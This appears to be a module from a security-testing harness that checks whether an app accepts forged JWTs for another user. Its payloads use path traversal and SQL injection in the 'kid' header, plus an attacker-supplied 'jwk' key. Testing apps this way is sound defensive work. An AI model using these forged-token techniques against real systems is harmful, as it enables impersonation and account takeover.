import { generateKeyPairSync, sign } from 'node:crypto';
import { hmac } from '../../tools/forge-jwt.js';
import type { AppUnderAttack } from '../app.js';
import type { AppAttack } from '../app-attack.js';
import { openToken, tryForged } from '../tools/forged-tokens.js';
import { buildJwt, claimOther } from '../tools/jwt.js';

/** Key ids that lead to known content, each with the key that this content would be. */
const kids: readonly (readonly [kid: string, key: string])[] = [
  ['../../../../../../../../dev/null', ''],
  ['/dev/null', ''],
  ['../../../../../../../../proc/sys/kernel/ostype', 'Linux\n'],
  ["x' UNION SELECT 'known' -- ", 'known'],
  ['__proto__', '[object Object]'],
  ['', ''],
];

export const jwtKeyId: AppAttack = {
  title:
    'a token for another user that chooses its key: a file or an SQL statement as key id (kid), a key of its own (jwk)',
  asvs: ['9.1.3'],
  run,
};

async function run(app: AppUnderAttack) {
  const opened = await openToken(app);
  if ('none' in opened) return opened.none;
  const { attacker, victim, jwt } = opened;
  const claims = claimOther(jwt.claims, attacker.user, victim.user);
  const named = kids.map(([kid, key]) => ({
    what: `the kid ${JSON.stringify(kid)}`,
    token: buildJwt({ ...jwt.header, alg: 'HS256', kid }, claims, hmac(key)),
  }));
  const own = [
    { alg: 'ES256', ...generateKeyPairSync('ec', { namedCurve: 'P-256' }) },
    { alg: 'RS256', ...generateKeyPairSync('rsa', { modulusLength: 2048 }) },
  ].map(({ alg, publicKey, privateKey: key }) => ({
    what: `a key of its own (jwk, ${alg})`,
    token: buildJwt({ ...jwt.header, alg, jwk: publicKey.export({ format: 'jwk' }) }, claims, text =>
      sign('sha256', Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' }),
    ),
  }));
  return tryForged(app, opened, [...named, ...own]);
}
